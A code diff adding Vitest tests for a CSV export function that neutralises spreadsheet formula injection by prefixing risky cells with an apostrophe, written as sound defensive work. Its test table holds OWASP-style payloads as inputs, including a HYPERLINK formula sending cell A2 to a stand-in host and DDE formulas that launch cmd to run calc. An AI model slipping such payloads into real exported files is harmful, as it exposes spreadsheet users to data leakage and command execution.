@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { csvNumberText, excelDateFormat, excelSerialDate, excelSheetName, exportFileName, exportProgress } from './export';
+import { csvNumberText, csvTextCell, excelDateFormat, excelSerialDate, excelSheetName, exportFileName, exportProgress } from './export';
 
 describe('export', () => {
   it('names the file: the chosen name, else the report title, else the default', () => {
@@ -20,6 +20,30 @@ describe('export', () => {
     expect(csvNumberText(1200)).toBe('1200');
     expect(csvNumberText(-89.99)).toBe('-89,99');
     expect(csvNumberText(1_000_000)).toBe('1000000');
+  });
+  // Issue 24 point 8: OWASP's CSV injection payloads, each kept as text.
+  it.each([
+    ['=HYPERLINK("https://rau.example/?d="&A2,"Click")', `"'=HYPERLINK(""https://rau.example/?d=""&A2,""Click"")"`],
+    ['=1+1', `"'=1+1"`],
+    ['+1+1', `"'+1+1"`],
+    ["-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
+    ["@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
+    ['\t=1+1', `"'\t=1+1"`],
+    ['\r=1+1', `"'\r=1+1"`],
+    ['=1+1";=1+1', `"'=1+1"";=1+1"`],
+    ['-12,50', `"'-12,50"`],
+    ['a;=1+1', '"a;=1+1"'],
+    ['a,=1+1', '"a,=1+1"'],
+  ])('neutralises a text cell a spreadsheet would run as a formula: %j', (text, cell) => {
+    expect(csvTextCell(text)).toBe(cell);
+  });
+  it('leaves other text as it is, quoting only what holds a separator, a quote or a line break', () => {
+    expect(csvTextCell('Supermarket')).toBe('Supermarket');
+    expect(csvTextCell('')).toBe('');
+    expect(csvTextCell('1=1 @ambele +5')).toBe('1=1 @ambele +5');
+    expect(csvTextCell('piață; "mare"')).toBe('"piață; ""mare"""');
+    expect(csvTextCell('rând\nnou')).toBe('"rând\nnou"');
+    expect(csvTextCell("'citat")).toBe("'citat");
   });
   it('gives Excel serial dates and date formats', () => {
     expect(excelSerialDate('1900-03-01')).toBe(61);
